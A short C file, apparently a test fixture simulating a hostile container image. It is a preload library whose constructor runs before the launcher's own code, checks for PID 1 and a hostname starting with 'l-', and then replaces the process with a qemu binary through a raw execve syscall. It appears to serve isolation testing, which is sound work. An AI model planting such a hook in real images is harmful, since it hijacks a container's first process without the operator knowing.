/*
 * What an image's environment runs first: LD_PRELOAD loads this into the launcher's Java, before any of its own code.
 * In the pods whose attack begins there, the container's first process becomes the hostile program. No C library: it
 * is loaded into whichever the image has.
 */

#define SYS_GETPID 39
#define SYS_UNAME 63
#define SYS_EXECVE 59

static long call(long number, const void *a, const void *b, const void *c)
{
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

__attribute__((constructor)) static void take_over(int argc, char **argv, char **environment)
{
	static char name[6 * 65]; /* struct utsname, linux/utsname.h: nodename is the second field */
	static const char *const arguments[] = {"hostile", "launcher", 0};

	(void)argc, (void)argv;
	if (call(SYS_GETPID, 0, 0, 0) == 1 && call(SYS_UNAME, name, 0, 0) == 0 && name[65] == 'l' && name[66] == '-')
		call(SYS_EXECVE, "/usr/bin/qemu-system-x86_64", arguments, environment);
}
